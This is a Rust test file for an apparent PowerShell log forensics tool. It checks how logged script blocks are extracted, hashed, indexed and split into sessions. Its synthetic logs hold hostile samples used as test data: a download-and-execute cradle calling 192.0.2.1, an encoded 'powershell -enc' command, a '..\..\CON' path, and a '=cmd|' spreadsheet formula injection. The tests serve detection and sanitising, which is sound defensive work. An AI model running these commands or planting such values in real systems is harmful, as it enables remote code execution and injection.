//! `scripts/`: what has a file and what has not, on the samples and on made logs.

use std::collections::BTreeMap;
use std::fs;
use std::path::{Path, PathBuf};

use evtx_writer::{EvtxEvent, FileTime, LogWriter, Payload};
use serde_json::Value;
use sha2::{Digest, Sha256};

use crate::common::{Row, analyze, corpus, root, rows, run_json};

fn index(out: &Path) -> Vec<Row> {
    rows(out, "scripts/index.csv")
}

/// The folder's files with their content.
fn files(out: &Path) -> BTreeMap<String, Vec<u8>> {
    let entries = fs::read_dir(out.join("scripts")).into_iter().flatten();
    let named = entries.map(|entry| {
        let entry = entry.unwrap();
        (entry.file_name().into_string().unwrap(), fs::read(entry.path()).unwrap())
    });
    named.collect()
}

/// Every file is named in the index by its hash and size, and every row has its file.
fn assert_sound(out: &Path) {
    let mut files = files(out);
    files.remove("index.csv");
    let index = index(out);
    for row in &index {
        let content = &files[&row["file"]];
        let hash: String = Sha256::digest(content).iter().map(|b| format!("{b:02x}")).collect();
        assert_eq!((row["sha256"].as_str(), &row["bytes"]), (&*hash, &content.len().to_string()));
    }
    let mut named: Vec<&str> = index.iter().map(|row| row["file"].as_str()).collect();
    named.sort_unstable();
    named.dedup();
    assert_eq!(named, files.keys().map(String::as_str).collect::<Vec<_>>());
    let hashes: std::collections::BTreeSet<&str> =
        index.iter().map(|row| row["sha256"].as_str()).collect();
    assert_eq!(hashes.len(), files.len(), "each text once");
    let told = &run_json(out)["scripts"];
    assert_eq!(told["blocks"], index.len());
    assert_eq!(told["files"], files.len());
    assert_eq!(told["bytes"], files.values().map(Vec::len).sum::<usize>());
    assert_eq!(told["left_out"], 0);
}

#[test]
fn the_sessions_scripts_are_those_of_the_script() {
    let out = tempfile::tempdir().unwrap();
    assert_eq!(analyze("samples", out.path(), &[]), 0);
    assert_sound(out.path());
    let truth = fs::read(root().join("samples/truth.json")).unwrap();
    let truth: Value = serde_json::from_slice(&truth).unwrap();
    let commands = truth["sessions"][0]["commands"].as_array().unwrap();
    let scripts = commands.iter().filter(|command| command["event_id"] == 4104);
    let index = index(out.path());
    let of_session = |name: &str| -> Vec<&Row> {
        index.iter().filter(|row| row["session_id"] == name).collect()
    };
    for command in scripts {
        let text =
            command["text"].as_str().unwrap_or_else(|| command["text"]["value"].as_str().unwrap());
        let time = command["time"].as_str().unwrap().replace('T', " ").replace('Z', "");
        let of_time = of_session("S0001").into_iter().find(|row| row["time"] == time);
        let row = of_time.unwrap_or_else(|| panic!("no block at {time}"));
        let file = fs::read(out.path().join("scripts").join(&row["file"])).unwrap();
        assert_eq!(String::from_utf8(file).unwrap(), text);
        assert_eq!(row["completeness"], "whole");
        assert_eq!(row["host"], "SRV02.corp.example");
        assert_eq!(row["user"], r"CORP\adm.lee");
        let records = command["proof"].as_array().unwrap().iter();
        let records = records.filter(|proof| proof["event_id"] == 4104).count();
        assert_eq!(row["evidence"].split("; ").count(), records);
    }
    // winrs runs no script block.
    assert_eq!(of_session("S0002").len(), 0);
}

#[test]
fn scripts_are_replaced_with_force_and_omitted_with_no_scripts() {
    let folder = tempfile::tempdir().unwrap();
    let out = folder.path().join("out");
    assert_eq!(analyze("samples", &out, &["--no-scripts"]), 0);
    assert!(!out.join("scripts").exists());
    assert_eq!(run_json(&out)["scripts"], Value::Null);
    assert_eq!(analyze("samples", &out, &["--force"]), 0);
    assert_sound(&out);
    fs::write(out.join("scripts/S0099-001.txt"), "of an older run").unwrap();
    fs::write(out.join("scripts/notes.md"), "the user's own").unwrap();
    assert_eq!(analyze("samples", &out, &["--force", "--no-scripts"]), 0);
    assert_eq!(files(&out).keys().collect::<Vec<_>>(), ["notes.md"]);
}

/// A log of 4104 records: id, part, parts, text, path.
fn log(folder: &Path, blocks: &[(&str, u32, u32, &str, &str)]) -> String {
    let mut log = LogWriter::default();
    for (record_id, (id, part, of, text, path)) in (1_u64..).zip(blocks) {
        let data = [
            ("MessageNumber", part.to_string()),
            ("MessageTotal", of.to_string()),
            ("ScriptBlockText", (*text).to_owned()),
            ("ScriptBlockId", (*id).to_owned()),
            ("Path", (*path).to_owned()),
        ];
        let event = EvtxEvent {
            provider: "Microsoft-Windows-PowerShell".to_owned(),
            event_id: 4104,
            record_id,
            time: FileTime::from_unix(1_773_522_847 + record_id, 0),
            channel: "Microsoft-Windows-PowerShell/Operational".into(),
            computer: "SRV01".into(),
            payload: Payload::EventData(
                data.iter()
                    .map(|(name, value)| ((*name).to_owned(), value.as_str().into()))
                    .collect(),
            ),
            ..EvtxEvent::default()
        };
        log.push(&event).unwrap();
    }
    let path = folder.join("log.evtx");
    fs::write(&path, log.finish()).unwrap();
    path.to_str().unwrap().to_owned()
}

const CRADLE: &str = "IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.1/a')";

#[test]
fn informative_scripts_outside_sessions_have_a_file() {
    let folder = tempfile::tempdir().unwrap();
    let out = folder.path().join("out");
    let blocks = [
        ("plain", 1, 1, "Get-Date", ""),
        ("cradle", 1, 1, CRADLE, r"..\..\CON"),
        ("again", 1, 1, CRADLE, "=cmd|' /C calc'!A0"),
        ("long", 1, 3, "first ", ""),
        ("long", 3, 3, "third", ""),
        ("hidden", 1, 1, "powershell -enc RwBlAHQALQBEAGEAdABlAA==", ""),
    ];
    assert_eq!(analyze(&log(folder.path(), &blocks), &out, &[]), 0);
    assert_sound(&out);
    let index = index(&out);
    let found: Vec<[&str; 5]> = index
        .iter()
        .map(|row| {
            ["script_block_id", "file", "completeness", "path", "session_id"].map(|c| &*row[c])
        })
        .collect();
    let third = "missing of 3: 2";
    assert_eq!(
        found,
        [
            ["cradle", "outside-00001.txt", "whole", r"..\..\CON", ""],
            ["again", "outside-00001.txt", "whole", "'=cmd|' /C calc'!A0", ""],
            ["long", "outside-00002.txt", third, "", ""],
            ["hidden", "outside-00003.txt", "whole", "", ""],
        ]
    );
    let why: Vec<&str> = index.iter().map(|row| row["why"].as_str()).collect();
    assert_eq!(why[..3], ["rule", "rule", "parts"]);
    assert!(why[3].ends_with("layers"), "{why:?}");
    let text = |name: &str| String::from_utf8(files(&out)[name].clone()).unwrap();
    assert_eq!(text("outside-00001.txt"), CRADLE);
    assert_eq!(text("outside-00002.txt"), "first <# part 2 is missing #>third");
    assert_eq!(run_json(&out)["scripts"]["blocks"], 4);
}

#[test]
fn a_copy_of_a_log_adds_no_script() {
    let folder = tempfile::tempdir().unwrap();
    let logs = folder.path().join("logs");
    fs::create_dir(&logs).unwrap();
    let one = log(&logs, &[("cradle", 1, 1, CRADLE, ""), ("long", 1, 2, "a", "")]);
    fs::copy(&one, logs.join("copy.evtx")).unwrap();
    let out = folder.path().join("out");
    assert_eq!(analyze(logs.to_str().unwrap(), &out, &[]), 0);
    assert_sound(&out);
    assert_eq!(index(&out).len(), 2);
}

#[test]
fn the_folder_is_the_same_at_any_number_of_threads() {
    let folder = tempfile::tempdir().unwrap();
    let inputs = [Some("samples".to_owned()), corpus("evtx"), corpus("json")];
    for (number, input) in inputs.into_iter().flatten().enumerate() {
        let run = |threads: &str| {
            let out: PathBuf = folder.path().join(format!("{number}-{threads}"));
            assert_eq!(analyze(&input, &out, &["--threads", threads]), 0);
            assert_sound(&out);
            files(&out)
        };
        let first = run("1");
        assert!(!first.is_empty());
        assert!(first == run("2") && first == run("3"), "{input}");
    }
}

#[test]
fn the_output_reference_has_the_columns() {
    let page = fs::read_to_string(root().join("docs/outputs.md")).unwrap();
    let columns = psr_forensics::report::INDEX_COLUMNS.iter();
    let rows: String = columns.map(|c| format!("| `{}` | {} |\n", c.name, c.description)).collect();
    assert!(page.contains(&rows), "the page's table of scripts/index.csv is not:\n{rows}");
}
